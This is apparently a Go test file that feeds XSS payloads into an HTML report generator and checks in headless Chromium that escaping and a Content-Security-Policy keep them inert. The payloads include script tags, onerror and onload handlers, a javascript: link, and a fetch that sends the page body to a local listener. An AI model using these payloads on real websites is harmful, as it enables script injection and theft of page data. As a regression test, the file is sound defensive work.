package main

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// listener counts every request that reaches it: a payload that leaks the
// page's data would call it.
type listener struct {
	mu   sync.Mutex
	hits []string
	addr string
}

func startListener(t *testing.T) *listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	l := &listener{addr: ln.Addr().String()}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		l.hits = append(l.hits, r.URL.String())
		l.mu.Unlock()
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return l
}

func (l *listener) requests() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.hits...)
}

// payloadHistory is a history whose keys and values are script payloads,
// with a read of a value nobody wrote, so that porcupine labels states with
// them: the attack that once ran a script on hover.
func payloadHistory(t *testing.T, dir, leak string) string {
	t.Helper()
	payloads := []string{
		`<img src=x onerror=document.title=/PWNED/.source>`,
		`<img src=http://` + leak + `/img onerror="fetch('http://` + leak + `/fetch?'+document.body.innerHTML)">`,
		`<script>document.title='PWNED'</script>`,
		`<a href="javascript:document.title='PWNED'">x</a><svg onload=document.title=/PWNED/.source>`,
		`<meta http-equiv=refresh content="0;url=http://` + leak + `/refresh">`,
		"\u202e<iframe src=http://" + leak + "/frame>",
	}
	quote := func(v string) string {
		q, err := json.Marshal(v)
		require.NoError(t, err)
		return string(q)
	}
	// Two keys, each a payload, each written every payload in turn and
	// then read with a value nobody wrote: every payload becomes a state
	// label in porcupine's tooltips.
	var lines []string
	id := 0
	for c, key := range []string{payloads[0], payloads[len(payloads)-1]} {
		for _, p := range payloads {
			lines = append(lines, fmt.Sprintf(`{"type":"op","id":%d,"client":%d,"f":"put","key":%s,"in":{"value":%s},"status":"ok","call":%d,"return":%d}`,
				id, 2*c, quote(key), quote(p), 10*id+1, 10*id+2))
			id++
			lines = append(lines, fmt.Sprintf(`{"type":"op","id":%d,"client":%d,"f":"get","key":%s,"out":{"value":%s,"found":true},"status":"ok","call":%d,"return":%d}`,
				id, 2*c+1, quote(key), quote(p), 10*id+1, 10*id+2))
			id++
		}
		lines = append(lines, fmt.Sprintf(`{"type":"op","id":%d,"client":%d,"f":"get","key":%s,"out":{"value":%s,"found":true},"status":"ok","call":%d,"return":%d}`,
			id, 2*c+1, quote(key), quote("<img src=x onerror=document.title=/PWNED/.source> nobody wrote this"), 10*id+1, 10*id+2))
		id++
	}
	path := filepath.Join(dir, "payloads.jsonl")
	require.NoError(t, os.WriteFile(path, []byte(strings.Join(lines, "\n")+"\n"), 0o644))
	return path
}

// hoverHarness hovers and clicks every op of porcupine's page, collecting
// the tooltip's elements, and writes what it saw into #harness.
const hoverHarness = `(function () {
  var targets = document.querySelectorAll('[data-partition]');
  var tip = document.querySelector('.tooltip');
  var tags = {};
  var seen = 0;
  function note() {
    var els = tip.querySelectorAll('*');
    for (var j = 0; j < els.length; j++) { tags[els[j].tagName] = true; }
  }
  for (var i = 0; i < targets.length; i++) {
    var t = targets[i];
    var ev = { bubbles: true, pageX: 10, pageY: 10 };
    t.dispatchEvent(new MouseEvent('mouseover', ev));
    t.dispatchEvent(new MouseEvent('mousemove', ev));
    note();
    t.dispatchEvent(new MouseEvent('click', ev));
    note();
    t.dispatchEvent(new MouseEvent('click', ev));
    t.dispatchEvent(new MouseEvent('mouseout', ev));
    seen++;
  }
  var out = document.createElement('pre');
  out.id = 'harness';
  out.textContent = JSON.stringify({ hovered: seen, tags: Object.keys(tags).sort() });
  document.body.appendChild(out);
})();`

// TestReportHoverRunsNoScriptFromData builds a report from keys and values
// that are script payloads, loads it in headless Chromium, then hovers and
// clicks every op of porcupine's visualization: no payload may become an
// element, no script may run (the title stays) and no request may reach the
// loopback listener the payloads call.
func TestReportHoverRunsNoScriptFromData(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	leak := startListener(t)
	page := filepath.Join(dir, "report.html")
	r := kvchaos(t, dir, "check", "--html", page, payloadHistory(t, dir, leak.addr))
	require.Equal(t, 1, r.code, r.stdout+r.stderr)
	raw, err := os.ReadFile(page)
	require.NoError(t, err)
	assert.Contains(t, string(raw), `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; `)
	assert.NotContains(t, string(raw), "\u202e", "bidi controls are shown by name")
	assert.Contains(t, string(raw), "⟨U+202E⟩")

	// The whole report, porcupine's iframe included.
	dom, logs := browser(t, page, "--dump-dom", "--virtual-time-budget=3000")
	assert.NotContains(t, logs, "Content Security Policy", "the report's own scripts are allowed")
	doc, err := html.Parse(strings.NewReader(dom))
	require.NoError(t, err)
	assert.NotContains(t, titleOf(doc), "PWNED")

	// Porcupine's page on its own, with the hover harness allowed by hash
	// next to the page's own script.
	viz := srcdocOf(doc)
	require.NotEmpty(t, viz, "the report embeds porcupine's page")
	sum := sha256.Sum256([]byte(hoverHarness))
	hash := "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
	require.Equal(t, 1, strings.Count(viz, "script-src"))
	viz = strings.Replace(viz, "script-src", "script-src "+hash, 1)
	viz = strings.Replace(viz, "</body>", "<script>"+hoverHarness+"</script></body>", 1)
	vizPath := filepath.Join(dir, "porcupine.html")
	require.NoError(t, os.WriteFile(vizPath, []byte(viz), 0o644))
	dom, logs = browser(t, vizPath, "--dump-dom", "--virtual-time-budget=3000")
	doc, err = html.Parse(strings.NewReader(dom))
	require.NoError(t, err)
	var got struct {
		Hovered int
		Tags    []string
	}
	require.NoError(t, json.Unmarshal([]byte(textOfID(doc, "harness")), &got), dom)
	assert.Equal(t, 2*(2*6+1), got.Hovered, "every op of both keys was hovered")
	for _, tag := range got.Tags {
		assert.Contains(t, []string{"BR", "STRONG"}, tag, "a tooltip holds an element that came from data")
	}
	assert.NotContains(t, titleOf(doc), "PWNED")
	assert.Empty(t, leak.requests(), "a request left the page")
	for _, line := range strings.Split(logs, "\n") {
		if strings.Contains(line, "Content Security Policy") {
			assert.NotContains(t, line, "script-src", "porcupine's own script was blocked: %s", line)
		}
	}
}

// srcdocOf returns the srcdoc of the first iframe of doc.
func srcdocOf(doc *html.Node) string {
	var out string
	walkNodes(doc, func(n *html.Node) {
		if n.Type == html.ElementNode && n.Data == "iframe" && out == "" {
			for _, a := range n.Attr {
				if a.Key == "srcdoc" {
					out = a.Val
				}
			}
		}
	})
	return out
}

func titleOf(doc *html.Node) string {
	var out string
	walkNodes(doc, func(n *html.Node) {
		if n.Type == html.ElementNode && n.Data == "title" {
			out = textOf(n)
		}
	})
	return out
}

func textOfID(doc *html.Node, id string) string {
	var out string
	walkNodes(doc, func(n *html.Node) {
		for _, a := range n.Attr {
			if a.Key == "id" && a.Val == id {
				out = textOf(n)
			}
		}
	})
	return out
}

func walkNodes(n *html.Node, fn func(*html.Node)) {
	fn(n)
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		walkNodes(c, fn)
	}
}
